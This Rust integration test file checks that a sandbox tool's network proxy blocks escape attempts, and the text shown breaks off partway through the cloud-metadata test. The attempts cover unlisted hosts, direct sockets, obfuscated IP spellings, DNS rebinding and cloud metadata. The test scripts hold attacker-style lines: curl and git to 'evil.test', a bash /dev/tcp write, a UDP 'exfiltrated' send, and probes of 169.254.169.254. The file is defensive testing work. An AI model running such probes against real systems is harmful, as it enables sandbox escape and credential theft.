//! The attack battery, "Network (proxy mode)" (ATTACKS.md items 19-27), and the positive
//! twins: what the agent legitimately needs through the proxy still works.
//!
//! Every attack is really attempted from inside a sandbox started by `git loop run`, and
//! each test asserts that it failed, that the violation was recorded in `events.jsonl`,
//! and that the server the attack aimed at saw nothing. Every server is one the test
//! starts on 127.0.0.1; every name the proxy could dial is pinned by the operator config
//! (`[network.hosts]`) to 127.0.0.1, so no test ever resolves a name through DNS or sends a
//! packet to any address that is not this machine's. An attack whose target is another
//! address (metadata, private ranges) runs in a network namespace of the test's own with
//! only a loopback (`common::netns`), so that even a proxy that wrongly dialed it would
//! find no route; `show --net` and the explain tables name such addresses as data only.

use std::fs;
use std::io::{Read, Write};
use std::net::{TcpListener, UdpSocket};
use std::os::unix::fs::PermissionsExt;
use std::path::{Path, PathBuf};
use std::process::{Child, Command, Stdio};
use std::sync::atomic::{AtomicUsize, Ordering};
use std::sync::{Arc, Mutex};
use std::time::{Duration, Instant};

use crate::common::netns::{require, Kill, Netns};
use crate::common::{apply_fix, Run, TestEnv};

// ---------------------------------------------------------------------------------------
// Helpers
// ---------------------------------------------------------------------------------------

/// A test workspace with one code loop, and an operator config.
fn setup(operator: &str) -> (TestEnv, String) {
    let env = TestEnv::new();
    let repo = env.repo("app");
    let id = env.new_loop(&repo, "egress");
    write_operator(&env, operator);
    (env, id)
}

fn write_operator(env: &TestEnv, body: &str) {
    let dir = env.home.join(".config/git-loop");
    fs::create_dir_all(&dir).unwrap();
    fs::write(dir.join("config.toml"), body).unwrap();
}

/// Operator config pinning `names` to 127.0.0.1, with 127.0.0.0/8 allowed or not.
fn pins(names: &[&str], allow_loopback: bool) -> String {
    let mut s = String::from("[network]\n");
    if allow_loopback {
        s.push_str("allow_cidrs = [\"127.0.0.0/8\"]\n");
    }
    s.push_str("\n[network.hosts]\n");
    for n in names {
        s.push_str(&format!("\"{n}\" = \"127.0.0.1\"\n"));
    }
    s
}

/// `git loop run -q ID [--allow-domain D]... -- sh -c SCRIPT ARGS...`.
fn sh(env: &TestEnv, id: &str, allow: &[&str], script: &str, args: &[&str]) -> Run {
    let mut argv = vec!["run", "-q", id];
    for a in allow {
        argv.extend(["--allow-domain", a]);
    }
    argv.extend(["--", "sh", "-c", script, "sh"]);
    argv.extend_from_slice(args);
    env.run(argv)
}

/// `git loop run -q ID [--allow-domain D]... -- python3 -c CODE ARGS...`.
fn py(env: &TestEnv, id: &str, allow: &[&str], code: &str, args: &[&str]) -> Run {
    env.run(py_argv(id, allow, code, args))
}

/// [`py`] in the network namespace `ns` (only a loopback): for probes whose targets are
/// not this machine's addresses, so that a proxy that wrongly dialed one would find no
/// route, never another machine.
fn py_in(ns: &Netns, env: &TestEnv, id: &str, allow: &[&str], code: &str, args: &[&str]) -> Run {
    ns.run(env, &py_argv(id, allow, code, args))
}

fn py_argv<'a>(id: &'a str, allow: &[&'a str], code: &'a str, args: &[&'a str]) -> Vec<&'a str> {
    let mut argv = vec!["run", "-q", id];
    for a in allow {
        argv.extend(["--allow-domain", a]);
    }
    argv.extend(["--", "python3", "-c", code]);
    argv.extend_from_slice(args);
    argv
}

/// The loop's violation events.
fn violations(env: &TestEnv, id: &str) -> Vec<serde_json::Value> {
    fs::read_to_string(env.loop_dir(id).join("events.jsonl"))
        .unwrap_or_default()
        .lines()
        .filter_map(|l| serde_json::from_str::<serde_json::Value>(l).ok())
        .filter(|e| e["kind"] == "violation")
        .collect()
}

/// Asserts a violation event for `target` whose rule is `rule`.
#[track_caller]
fn assert_violation(env: &TestEnv, id: &str, target: &str, rule: &str) {
    let all = violations(env, id);
    assert!(
        all.iter().any(|v| v["action"] == "network-outbound"
            && v["target"] == target
            && v["rule"] == rule
            && v["reason"].as_str().is_some_and(|r| !r.is_empty())),
        "no violation event for {target} (rule {rule}); events:\n{}",
        all.iter()
            .map(|v| v.to_string())
            .collect::<Vec<_>>()
            .join("\n")
    );
}

/// The value of `LABEL => value` lines a probe printed.
#[track_caller]
fn probe<'a>(run: &'a Run, label: &str) -> &'a str {
    let prefix = format!("{label} => ");
    run.stdout
        .lines()
        .find_map(|l| l.strip_prefix(&prefix))
        .unwrap_or_else(|| panic!("no {label} in:\n{}\n{}", run.stdout, run.stderr))
}

/// A plain HTTP server on 127.0.0.1 that answers every request with its name, and
/// records what reached it. A canary: an attack test asserts it saw nothing.
struct Web {
    port: u16,
    connections: Arc<AtomicUsize>,
    requests: Arc<Mutex<Vec<String>>>,
}

impl Web {
    fn start(name: &'static str) -> Web {
        let listener = TcpListener::bind("127.0.0.1:0").unwrap();
        let port = listener.local_addr().unwrap().port();
        let connections = Arc::new(AtomicUsize::new(0));
        let requests = Arc::new(Mutex::new(Vec::new()));
        let (c, r) = (connections.clone(), requests.clone());
        std::thread::spawn(move || {
            for stream in listener.incoming() {
                let Ok(mut stream) = stream else { continue };
                c.fetch_add(1, Ordering::SeqCst);
                let r = r.clone();
                std::thread::spawn(move || {
                    let _ = stream.set_read_timeout(Some(Duration::from_secs(10)));
                    let mut head = Vec::new();
                    let mut buf = [0u8; 4096];
                    while !head.windows(4).any(|w| w == b"\r\n\r\n") {
                        match stream.read(&mut buf) {
                            Ok(0) | Err(_) => return,
                            Ok(n) => head.extend_from_slice(&buf[..n]),
                        }
                    }
                    r.lock()
                        .unwrap()
                        .push(String::from_utf8_lossy(&head).into_owned());
                    let body = format!("hello from {name}\n");
                    let _ = write!(
                        stream,
                        "HTTP/1.1 200 OK\r\nContent-Length: {}\r\nConnection: close\r\n\r\n{body}",
                        body.len()
                    );
                });
            }
        });
        Web {
            port,
            connections,
            requests,
        }
    }

    fn seen(&self) -> usize {
        self.connections.load(Ordering::SeqCst)
    }

    fn requests(&self) -> Vec<String> {
        self.requests.lock().unwrap().clone()
    }
}

/// A UDP socket on 127.0.0.1 that must receive nothing.
struct UdpCanary(UdpSocket);

impl UdpCanary {
    fn start() -> UdpCanary {
        let s = UdpSocket::bind("127.0.0.1:0").unwrap();
        s.set_read_timeout(Some(Duration::from_millis(300)))
            .unwrap();
        UdpCanary(s)
    }
    fn port(&self) -> u16 {
        self.0.local_addr().unwrap().port()
    }
    fn received(&self) -> bool {
        let mut buf = [0u8; 512];
        self.0.recv_from(&mut buf).is_ok()
    }
}

/// A test CA (`ca.pem` in `dir`, which the tests put in the loop's workdir as `tls/`) and
/// a server certificate for the test names, made with openssl.
struct Certs {
    cert: PathBuf,
    key: PathBuf,
}

fn make_certs(dir: &Path, names: &[&str]) -> Certs {
    fs::create_dir_all(dir).unwrap();
    let run = |args: &[&str]| {
        let out = Command::new("openssl")
            .args(args)
            .current_dir(dir)
            .stdin(Stdio::null())
            .output()
            .expect("openssl runs");
        assert!(
            out.status.success(),
            "openssl {args:?}: {}",
            String::from_utf8_lossy(&out.stderr)
        );
    };
    run(&[
        "req",
        "-x509",
        "-newkey",
        "ec",
        "-pkeyopt",
        "ec_paramgen_curve:prime256v1",
        "-nodes",
        "-keyout",
        "ca.key",
        "-out",
        "ca.pem",
        "-days",
        "2",
        "-subj",
        "/CN=git-loop test CA",
        "-addext",
        "basicConstraints=critical,CA:TRUE",
        "-addext",
        "keyUsage=critical,keyCertSign",
    ]);
    run(&[
        "req",
        "-newkey",
        "ec",
        "-pkeyopt",
        "ec_paramgen_curve:prime256v1",
        "-nodes",
        "-keyout",
        "server.key",
        "-out",
        "server.csr",
        "-subj",
        "/CN=git-loop test server",
    ]);
    let sans: Vec<String> = names.iter().map(|n| format!("DNS:{n}")).collect();
    fs::write(
        dir.join("ext.cnf"),
        format!(
            "subjectAltName={}\nbasicConstraints=CA:FALSE\nkeyUsage=digitalSignature\nextendedKeyUsage=serverAuth\n",
            sans.join(",")
        ),
    )
    .unwrap();
    run(&[
        "x509",
        "-req",
        "-in",
        "server.csr",
        "-CA",
        "ca.pem",
        "-CAkey",
        "ca.key",
        "-CAcreateserial",
        "-out",
        "server.pem",
        "-days",
        "2",
        "-extfile",
        "ext.cnf",
    ]);
    Certs {
        cert: dir.join("server.pem"),
        key: dir.join("server.key"),
    }
}

/// python3's http.server over a folder, plain and TLS, on 127.0.0.1; logs `scheme host
/// path` of every request.
const FILE_SERVER: &str = r#"
import functools, http.server, ssl, sys, threading
root, certfile, keyfile, log = sys.argv[1:5]
class Handler(http.server.SimpleHTTPRequestHandler):
    def log_message(self, fmt, *args):
        with open(log, "a") as f:
            f.write("%s %s %s\n" % (self.server.scheme, self.headers.get("Host"), self.path))
def start(scheme):
    s = http.server.ThreadingHTTPServer(("127.0.0.1", 0), functools.partial(Handler, directory=root))
    s.daemon_threads = True
    s.scheme = scheme
    if scheme == "https":
        ctx = ssl.SSLContext(ssl.PROTOCOL_TLS_SERVER)
        ctx.load_cert_chain(certfile, keyfile)
        s.socket = ctx.wrap_socket(s.socket, server_side=True, do_handshake_on_connect=False)
    threading.Thread(target=s.serve_forever, daemon=True).start()
    return s.server_address[1]
print(start("http"), start("https"), flush=True)
sys.stdin.read()
"#;

struct FileServer {
    child: Child,
    http: u16,
    https: u16,
    log: PathBuf,
}

impl FileServer {
    fn start(root: &Path, certs: &Certs, log: &Path) -> FileServer {
        let mut child = Command::new("python3")
            .args(["-c", FILE_SERVER])
            .arg(root)
            .arg(&certs.cert)
            .arg(&certs.key)
            .arg(log)
            .stdin(Stdio::piped())
            .stdout(Stdio::piped())
            .stderr(Stdio::null())
            .spawn()
            .expect("python3 starts");
        let mut line = String::new();
        let mut out = child.stdout.take().unwrap();
        let mut byte = [0u8; 1];
        while out.read(&mut byte).unwrap_or(0) == 1 && byte[0] != b'\n' {
            line.push(byte[0] as char);
        }
        let ports: Vec<u16> = line
            .split_whitespace()
            .filter_map(|p| p.parse().ok())
            .collect();
        assert_eq!(ports.len(), 2, "the file server did not start: {line:?}");
        FileServer {
            child,
            http: ports[0],
            https: ports[1],
            log: log.to_path_buf(),
        }
    }

    fn log(&self) -> String {
        fs::read_to_string(&self.log).unwrap_or_default()
    }
}

impl Drop for FileServer {
    fn drop(&mut self) {
        let _ = self.child.kill();
        let _ = self.child.wait();
    }
}

/// Raw proxy clients inside the sandbox, one probe per argument `LABEL|KIND|ARGS...`;
/// each prints `LABEL => result`. The token comes from HTTPS_PROXY, as a client's would.
const PROBES: &str = r#"
import base64, os, socket, ssl, struct, sys, urllib.parse
TOKEN = urllib.parse.urlsplit(os.environ["HTTPS_PROXY"]).password
AUTH = "Basic " + base64.b64encode(("gitloop:" + TOKEN).encode()).decode()
CA = os.environ.get("PROBE_CA", "tls/ca.pem")

def recv_all(s):
    data = b""
    while True:
        try:
            c = s.recv(65536)
        except OSError as e:
            return data + (" <%s>" % e).encode()
        if not c:
            return data
        data += c

def head(s):
    data = b""
    while b"\r\n\r\n" not in data:
        c = s.recv(4096)
        if not c:
            break
        data += c
    return data.split(b"\r\n", 1)[0].decode(errors="replace"), data

def summary(data):
    first = data.split(b"\r\n", 1)[0].decode(errors="replace")
    body = data.split(b"\r\n\r\n", 1)[-1][:400].decode(errors="replace").replace("\n", " ")
    return first + " | " + body

def http(target, host, auth="yes"):
    s = socket.create_connection(("127.0.0.1", 3128), timeout=30)
    req = "GET %s HTTP/1.1\r\n" % target
    if host != "-":
        req += "Host: %s\r\n" % host
    if auth == "yes":
        req += "Proxy-Authorization: %s\r\n" % AUTH
    s.sendall((req + "Connection: close\r\n\r\n").encode())
    return summary(recv_all(s))

def connect(authority, host, inner="-", sni="-"):
    s = socket.create_connection(("127.0.0.1", 3128), timeout=30)
    req = "CONNECT %s HTTP/1.1\r\n" % authority
    if host != "-":
        req += "Host: %s\r\n" % host
    s.sendall((req + "Proxy-Authorization: %s\r\n\r\n" % AUTH).encode())
    line, _ = head(s)
    if not line.startswith("HTTP/1.1 200") or (inner == "-" and sni == "-"):
        return line
    return through(s, inner, sni)

def through(s, inner, sni):
    """A request through an open tunnel: plain HTTP naming `inner`, or TLS with `sni`."""
    if sni != "-":
        ctx = ssl.create_default_context(cafile=CA)
        try:
            t = ctx.wrap_socket(s, server_hostname=sni)
            t.sendall(("GET / HTTP/1.1\r\nHost: %s\r\nConnection: close\r\n\r\n" % sni).encode())
            return "TLS " + summary(recv_all(t))
        except (OSError, ssl.SSLError) as e:
            return "TLS-FAILED %s" % type(e).__name__
    s.sendall(("GET / HTTP/1.1\r\nHost: %s\r\nConnection: close\r\n\r\n" % inner).encode())
    return "TUNNEL " + summary(recv_all(s))

def socks(atyp, host, port, methods="2", password="-", cmd="1", sni="-"):
    s = socket.create_connection(("127.0.0.1", 1080), timeout=30)
    ms = bytes(int(m) for m in methods.split(","))
    s.sendall(bytes([5, len(ms)]) + ms)
    r = s.recv(2)
    if r != b"\x05\x02":
        return "METHOD-REFUSED %s" % r.hex()
    pw = (TOKEN if password == "-" else password).encode()
    s.sendall(bytes([1, 7]) + b"gitloop" + bytes([len(pw)]) + pw)
    r = s.recv(2)
    if r != b"\x01\x00":
        return "AUTH-REFUSED %s" % r.hex()
    if atyp == "domain":
        addr = bytes([3, len(host.encode())]) + host.encode()
    elif atyp == "v4":
        addr = b"\x01" + socket.inet_aton(host)
    else:
        addr = b"\x04" + socket.inet_pton(socket.AF_INET6, host)
    s.sendall(bytes([5, int(cmd), 0]) + addr + struct.pack(">H", int(port)))
    r = s.recv(10)
    if len(r) < 2:
        return "CLOSED"
    if r[1] != 0:
        return "REPLY %d" % r[1]
    return "REPLY 0 " + through(s, host, sni)

for arg in sys.argv[1:]:
    label, kind, *rest = arg.split("|")
    try:
        result = {"http": http, "connect": connect, "socks": socks}[kind](*rest)
    except OSError as e:
        result = "ERROR %s" % e
    print("%s => %s" % (label, result), flush=True)
"#;

// ---------------------------------------------------------------------------------------
// 19. Hosts not on the allowlist, by every route
// ---------------------------------------------------------------------------------------

#[test]
fn attack_19_unlisted_hosts_are_refused_by_every_route() {
    // evil.test is pinned to a live server on loopback and loopback is allowed: the
    // allowlist alone stands between the sandbox and it.
    let (env, id) = setup(&pins(&["allowed.test", "evil.test"], true));
    let web = Web::start("web");
    let p = web.port.to_string();
    let script = format!(
        r#"
echo "CURL-HTTP $(curl -s -o /dev/null -w '%{{http_code}}' http://evil.test:{p}/)"
curl -sS -o /dev/null https://evil.test:{p}/ 2>&1 | sed 's/^/CURL-CONNECT /'
curl -sS -o /dev/null -x "$ALL_PROXY" http://evil.test:{p}/ 2>&1 | sed 's/^/CURL-SOCKS /'
git clone -q http://evil.test:{p}/repo.git /tmp/r1 2>&1 | sed 's/^/GIT /'
eval "$GIT_SSH_COMMAND -o BatchMode=yes -o StrictHostKeyChecking=no -p {p} git@evil.test true" 2>&1 | sed 's/^/SSH /'
echo "ALLOWED $(curl -s http://allowed.test:{p}/)"
"#
    );
    let run = sh(&env, &id, &["allowed.test"], &script, &[]);
    assert_eq!(run.code, 0, "{}\n{}", run.stdout, run.stderr);
    run.stdout_has("CURL-HTTP 403")
        .stdout_has("CURL-CONNECT curl: (56) CONNECT tunnel failed, response 403")
        .stdout_has("CURL-SOCKS curl: (97)")
        .stdout_has("GIT fatal: unable to access")
        .stdout_has("SSH error: cannot connect to evil.test")
        .stdout_has("the sandbox's network policy refused evil.test")
        .stdout_has("ALLOWED hello from web");
    let target = format!("evil.test:{p}");
    for via in ["http", "connect", "socks"] {
        assert!(
            violations(&env, &id)
                .iter()
                .any(|v| v["target"] == target && v["rule"] == "allowlist" && v["via"] == via),
            "no {via} violation: {:?}",
            violations(&env, &id)
        );
    }
    // Only the positive twin reached the server.
    assert_eq!(web.seen(), 1, "{:?}", web.requests());
    assert!(web.requests()[0].contains(&format!("Host: allowed.test:{p}")));
    // `git loop log` shows the refusals.
    env.run(["log", &id]).ok().stdout_has(&format!(
        "violation network-outbound {target} refused: evil.test is not on this sandbox's allowlist"
    ));
}

// ---------------------------------------------------------------------------------------
// 20. Direct connections: no route but the proxy
// ---------------------------------------------------------------------------------------

/// This machine's own addresses other than loopback (its interfaces'): as targets from
/// inside they show there is no route, and they are not any other machine's.
fn own_addresses() -> Vec<String> {
    let mut out = Vec::new();
    // SAFETY: getifaddrs fills a list we walk read-only and free with freeifaddrs.
    unsafe {
        let mut list: *mut libc::ifaddrs = std::ptr::null_mut();
        if libc::getifaddrs(&mut list) != 0 {
            return out;
        }
        let mut cur = list;
        while !cur.is_null() {
            let addr = (*cur).ifa_addr;
            if !addr.is_null() && i32::from((*addr).sa_family) == libc::AF_INET {
                let sin = &*(addr as *const libc::sockaddr_in);
                let ip = std::net::Ipv4Addr::from(u32::from_be(sin.sin_addr.s_addr));
                if !ip.is_loopback() {
                    out.push(ip.to_string());
                }
            }
            cur = (*cur).ifa_next;
        }
        libc::freeifaddrs(list);
    }
    out
}

#[test]
fn attack_20_there_is_no_route_but_the_proxy() {
    let (env, id) = setup(&pins(&["allowed.test"], true));
    let web = Web::start("web");
    let udp = UdpCanary::start();
    let own = own_addresses();
    let code = r#"
import errno, socket, sys
port, udp_port, addrs = int(sys.argv[1]), int(sys.argv[2]), sys.argv[3:]
def name(e):
    return errno.errorcode.get(e.errno, str(e))
for a in ["127.0.0.1"] + addrs:
    s = socket.socket(socket.AF_INET, socket.SOCK_STREAM)
    s.settimeout(5)
    try:
        s.connect((a, port))
        print("ESCAPED: tcp to", a)
    except OSError as e:
        print("TCP", a, name(e))
for a in ["127.0.0.1"] + addrs:
    s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
    try:
        s.sendto(b"exfiltrated", (a, udp_port))
        print("UDP", a, "sent")
    except OSError as e:
        print("UDP", a, name(e))
for fam, kind, proto, label in [(socket.AF_INET, socket.SOCK_RAW, socket.IPPROTO_ICMP, "RAW"),
                                (socket.AF_PACKET, socket.SOCK_RAW, 0, "PACKET")]:
    try:
        socket.socket(fam, kind, proto)
        print("ESCAPED:", label, "socket")
    except OSError as e:
        print(label, name(e))
routes = [l.split() for l in open("/proc/net/route").read().splitlines()[1:] if l.strip()]
print("ROUTES", len(routes))
ifaces = [l.split(":")[0].strip() for l in open("/proc/net/dev").read().splitlines()[2:]]
print("IFACES", ",".join(ifaces))
v6 = [l.split()[-1] for l in open("/proc/net/ipv6_route").read().splitlines() if l.strip()]
print("V6-ROUTES-OFF-LO", len([d for d in v6 if d != "lo"]))
"#;
    let port = web.port.to_string();
    let udp_port = udp.port().to_string();
    let mut args = vec![port.as_str(), udp_port.as_str()];
    args.extend(own.iter().map(String::as_str));
    let run = py(&env, &id, &["allowed.test"], code, &args);
    assert_eq!(run.code, 0, "{}\n{}", run.stdout, run.stderr);
    assert!(!run.stdout.contains("ESCAPED"), "{}", run.stdout);
    // The sandbox's 127.0.0.1 is its own: the host's server is not there.
    run.stdout_has("TCP 127.0.0.1 ECONNREFUSED")
        .stdout_has("RAW EPERM")
        .stdout_has("PACKET EPERM")
        .stdout_has("ROUTES 0")
        .stdout_has("IFACES lo\n")
        .stdout_has("V6-ROUTES-OFF-LO 0");
    for a in &own {
        run.stdout_has(&format!("TCP {a} ENETUNREACH"));
        run.stdout_has(&format!("UDP {a} ENETUNREACH"));
    }
    assert!(
        !udp.received(),
        "a datagram from the sandbox reached the host"
    );
    assert_eq!(web.seen(), 0, "{:?}", web.requests());
    // bash's /dev/tcp is no way out either.
    let bash = sh(
        &env,
        &id,
        &[],
        &format!("bash -c 'echo x > /dev/tcp/127.0.0.1/{port}' 2>&1 || echo BASH-REFUSED"),
        &[],
    );
    bash.stdout_has("BASH-REFUSED");
    assert_eq!(web.seen(), 0);
    // Positive twin: the same server through the proxy.
    sh(
        &env,
        &id,
        &["allowed.test"],
        &format!("curl -sS http://allowed.test:{port}/"),
        &[],
    )
    .ok()
    .stdout_has("hello from web");
    assert_eq!(web.seen(), 1);
}

// ---------------------------------------------------------------------------------------
// 21. Numeric hosts in every spelling
// ---------------------------------------------------------------------------------------

#[test]
fn attack_21_numeric_hosts_are_refused_in_every_spelling() {
    // Loopback is an allowed range here: only the numeric-host rule refuses these.
    let (env, id) = setup(&pins(&["allowed.test"], true));
    let web = Web::start("web");
    let p = web.port;
    let spellings = [
        "127.0.0.1",
        "127.1",
        "0x7f.0.0.1",
        "0x7f000001",
        "2130706433",
        "0177.0.0.1",
        "017700000001",
        "0.0.0.0",
        "0",
        "[::1]",
        "[::ffff:127.0.0.1]",
        "[::ffff:7f00:1]",
        "127.0.0.1.",
    ];
    let mut probes = Vec::new();
    for (i, s) in spellings.iter().enumerate() {
        probes.push(format!("http-{i}|http|http://{s}:{p}/|{s}:{p}"));
        probes.push(format!("connect-{i}|connect|{s}:{p}|-"));
        let bare = s.trim_start_matches('[').trim_end_matches(']');
        probes.push(format!("socksname-{i}|socks|domain|{bare}|{p}"));
    }
    probes.push(format!("socks-v4|socks|v4|127.0.0.1|{p}"));
    probes.push(format!("socks-v6|socks|v6|::1|{p}"));
    probes.push(format!("socks-v6-mapped|socks|v6|::ffff:127.0.0.1|{p}"));
    probes.push(format!(
        "twin|http|http://allowed.test:{p}/|allowed.test:{p}"
    ));
    let args: Vec<&str> = probes.iter().map(String::as_str).collect();
    let run = py(&env, &id, &["allowed.test"], PROBES, &args);
    assert_eq!(run.code, 0, "{}\n{}", run.stdout, run.stderr);
    for (i, s) in spellings.iter().enumerate() {
        let http = probe(&run, &format!("http-{i}"));
        assert!(http.starts_with("HTTP/1.1 403"), "{s}: {http}");
        assert!(http.contains("rule: numeric-host"), "{s}: {http}");
        let connect = probe(&run, &format!("connect-{i}"));
        assert!(connect.starts_with("HTTP/1.1 403"), "{s}: {connect}");
        assert_eq!(probe(&run, &format!("socksname-{i}")), "REPLY 2", "{s}");
        assert_violation(&env, &id, &format!("{s}:{p}"), "numeric-host");
    }
    for label in ["socks-v4", "socks-v6", "socks-v6-mapped"] {
        assert_eq!(probe(&run, label), "REPLY 2", "{label}");
    }
    assert_violation(&env, &id, &format!("[::1]:{p}"), "numeric-host");
    assert!(probe(&run, "twin").contains("hello from web"));
    assert_eq!(
        web.seen(),
        1,
        "only the twin reached the server: {:?}",
        web.requests()
    );
    // curl's own spelling of the same (it may normalise it first): still refused.
    let curl = sh(
        &env,
        &id,
        &[],
        &format!("for u in http://127.1:{p}/ http://0x7f.0.0.1:{p}/ http://2130706433:{p}/ 'http://[::1]:{p}/'; do echo \"$u $(curl --noproxy '' -s -o /dev/null -w '%{{http_code}}' \"$u\")\"; done"),
        &[],
    );
    assert_eq!(curl.stdout.matches(" 403\n").count(), 4, "{}", curl.stdout);
    assert_eq!(web.seen(), 1);
    // An address is no allowlist entry either.
    env.run(["run", &id, "--allow-domain", "127.0.0.1", "--", "true"])
        .fails(2)
        .stderr_has("is an IP address");
}

// ---------------------------------------------------------------------------------------
// 22. DNS rebinding: allowed names that resolve to local addresses
// ---------------------------------------------------------------------------------------

#[test]
fn attack_22_names_that_resolve_to_local_addresses_are_refused() {
    // No allow_cidrs: every local address is refused at connect time. The pins stand in
    // for a DNS answer an attacker controls; the proxy refuses before it dials any of
    // them. `localhost` is resolved for real (by /etc/hosts). Names pinned to addresses
    // that are not this machine's are probed from a network namespace of the test's own
    // (only a loopback): a proxy that dialed one would find no route there. Those pinned
    // to this machine are probed on the host, where the server below is the canary.
    let off_machine = [
        ("ten.test", "10.1.2.3"),
        ("corp.test", "192.168.7.7"),
        ("cgnat.test", "100.64.1.1"),
        ("linklocal.test", "169.254.10.10"),
        ("meta.test", "169.254.169.254"),
        ("v6meta.test", "fd00:ec2::254"),
        ("ula.test", "fd12:3456::1"),
    ];
    let on_machine = [
        ("rebind.test", "127.0.0.1"),
        ("v6local.test", "::1"),
        ("mapped.test", "::ffff:127.0.0.1"),
        ("zero.test", "0.0.0.0"),
    ];
    let mut config = String::from("[network.hosts]\n");
    for (n, a) in off_machine.iter().chain(&on_machine) {
        config.push_str(&format!("\"{n}\" = \"{a}\"\n"));
    }
    let (env, id) = setup(&config);
    let ns = Netns::new();
    let web = Web::start("web");
    let p = web.port;
    let probes_of = |pinned: &[(&str, &str)]| -> Vec<String> {
        let mut probes = Vec::new();
        for (n, _) in pinned {
            probes.push(format!("{n}-http|http|http://{n}:{p}/|{n}:{p}"));
            probes.push(format!("{n}-connect|connect|{n}:{p}|-"));
            probes.push(format!("{n}-socks|socks|domain|{n}|{p}"));
        }
        probes
    };
    let off_probes = probes_of(&off_machine);
    let off_args: Vec<&str> = off_probes.iter().map(String::as_str).collect();
    let off_allow: Vec<&str> = off_machine.iter().map(|(n, _)| *n).collect();
    let off = py_in(&ns, &env, &id, &off_allow, PROBES, &off_args);
    assert_eq!(off.code, 0, "{}\n{}", off.stdout, off.stderr);
    let mut on_probes = probes_of(&on_machine);
    on_probes.push(format!(
        "localhost|http|http://localhost:{p}/|localhost:{p}"
    ));
    let on_args: Vec<&str> = on_probes.iter().map(String::as_str).collect();
    let mut on_allow: Vec<&str> = on_machine.iter().map(|(n, _)| *n).collect();
    on_allow.push("localhost");
    let on = py(&env, &id, &on_allow, PROBES, &on_args);
    assert_eq!(on.code, 0, "{}\n{}", on.stdout, on.stderr);
    for (run, pinned) in [(&off, &off_machine[..]), (&on, &on_machine[..])] {
        for (n, a) in pinned {
            let http = probe(run, &format!("{n}-http"));
            assert!(http.starts_with("HTTP/1.1 403"), "{n}: {http}");
            let rule = if a.contains("169.254.169.254") || a.contains("ec2") {
                "denylist"
            } else {
                "address"
            };
            assert!(http.contains(&format!("rule: {rule}")), "{n}: {http}");
            assert!(probe(run, &format!("{n}-connect")).starts_with("HTTP/1.1 403"));
            assert_eq!(probe(run, &format!("{n}-socks")), "REPLY 2", "{n}");
            assert_violation(&env, &id, &format!("{n}:{p}"), rule);
        }
    }
    let local = probe(&on, "localhost");
    assert!(
        local.starts_with("HTTP/1.1 403") && local.contains("loopback"),
        "{local}"
    );
    assert_violation(&env, &id, &format!("localhost:{p}"), "address");
    assert_eq!(web.seen(), 0, "{:?}", web.requests());

    // Positive twin: the operator allows loopback, and the same name reaches the server.
    let mut ordered = String::from("[network]\nallow_cidrs = [\"127.0.0.0/8\"]\n\n");
    ordered.push_str(&config);
    write_operator(&env, &ordered);
    let twin = sh(
        &env,
        &id,
        &["rebind.test"],
        &format!("curl -sS http://rebind.test:{p}/"),
        &[],
    );
    twin.ok().stdout_has("hello from web");
    assert_eq!(web.seen(), 1);
}

// ---------------------------------------------------------------------------------------
// 23. Cloud metadata, by name and by address
// ---------------------------------------------------------------------------------------

#[test]
fn attack_23_cloud_metadata_is_refused_by_name_and_address() {
    // The operator even allows the link-local and ULA ranges, and the allowlist has
    // wildcards that match the metadata names: the denylist still wins. Names pinned to
    // this machine are probed on the host, where the server below is the canary; names
    // and addresses that are not this machine's (and `metadata`, which nothing pins) from
    // a network namespace of the test's own with only a loopback, where a proxy that
    // dialed or looked one up would reach nothing.
    let config = "[network]\nallow_cidrs = [\"127.0.0.0/8\", \"169.254.0.0/16\", \"fd00::/8\"]\n\n\
                  [network.hosts]\n\"metadata.google.internal\" = \"127.0.0.1\"\n\"instance-data.ec2.internal\" = \"127.0.0.1\"\n\
                  \"imds.test\" = \"169.254.169.254\"\n\"imds6.test\" = \"fd00:ec2::254\"\n\"ecs.test\" = \"169.254.170.2\"\n\
                  \"mapped-imds.test\" = \"::ffff:169.254.169.254\"\n";
    let (env, id) = setup(config);
    let ns = Netns::new();
    let web = Web::start("web");
    let p = web.port;
    let on_machine = [
        "metadata.google.internal",
        "METADATA.Google.Internal.",
        "instance-data.ec2.internal",
    ];
    let off_machine = [
        "metadata",
        "imds.test",
        "imds6.test",
        "ecs.test",
        "mapped-imds.test",
    ];
    let probes_of = |names: &[&str]| -> Vec<String> {
        let mut probes = Vec::new();
        for (i, n) in names.iter().enumerate() {
            probes.push(format!(
                "http-{i}|http|http://{n}:{p}/computeMetadata/v1/|{n}:{p}"
            ));
            probes.push(format!("connect-{i}|connect|{n}:{p}|-"));
            probes.push(format!("socks-{i}|socks|domain|{n}|{p}"));
        }
        probes
    };
    let mut off_probes = probes_of(&off_machine);
    for (label, addr) in [("v4", "169.254.169.254"), ("v6", "[fd00:ec2::254]")] {
        off_probes.push(format!(
            "addr-{label}|http|http://{addr}/latest/meta-data/|{addr}"
        ));
        off_probes.push(format!("addrconnect-{label}|connect|{addr}:80|-"));
    }
    off_probes.push("socks-addr-v4|socks|v4|169.254.169.254|80".to_string());
    off_probes.push("socks-addr-v6|socks|v6|fd00:ec2::254|80".to_string());
    // Wildcards and exact entries that match the metadata names: the denylist still wins.
    let allow = [
        "*.internal",
        "*.google.internal",
        "metadata.google.internal",
        "metadata",
        "*.test",
    ];
    let on_probes = probes_of(&on_machine);
    let on_args: Vec<&str> = on_probes.iter().map(String::as_str).collect();
    let on = py(&env, &id, &allow, PROBES, &on_args);
    assert_eq!(on.code, 0, "{}\n{}", on.stdout, on.stderr);
    let off_args: Vec<&str> = off_probes.iter().map(String::as_str).collect();
    let off = py_in(&ns, &env, &id, &allow, PROBES, &off_args);
    assert_eq!(off.code, 0, "{}\n{}", off.stdout, off.stderr);
    for (run, names) in [(&on, &on_machine[..]), (&off, &off_machine[..])] {
        for (i, n) in names.iter().enumerate() {
            let http = probe(run, &format!("http-{i}"));
            assert!(
                http.starts_with("HTTP/1.1 403") && http.contains("rule: denylist"),
                "{n}: {http}"
            );
            assert!(http.contains("cloud metadata"), "{n}: {http}");
            assert!(
                probe(run, &format!("connect-{i}")).starts_with("HTTP/1.1 403"),
                "{n}"
            );
            assert_eq!(probe(run, &format!("socks-{i}")), "REPLY 2", "{n}");
            assert_violation(&env, &id, &format!("{n}:{p}"), "denylist");
        }
    }
    for label in ["addr-v4", "addr-v6", "addrconnect-v4", "addrconnect-v6"] {
        assert!(probe(&off, label).starts_with("HTTP/1.1 403"), "{label}");
    }
    assert_eq!(probe(&off, "socks-addr-v4"), "REPLY 2");
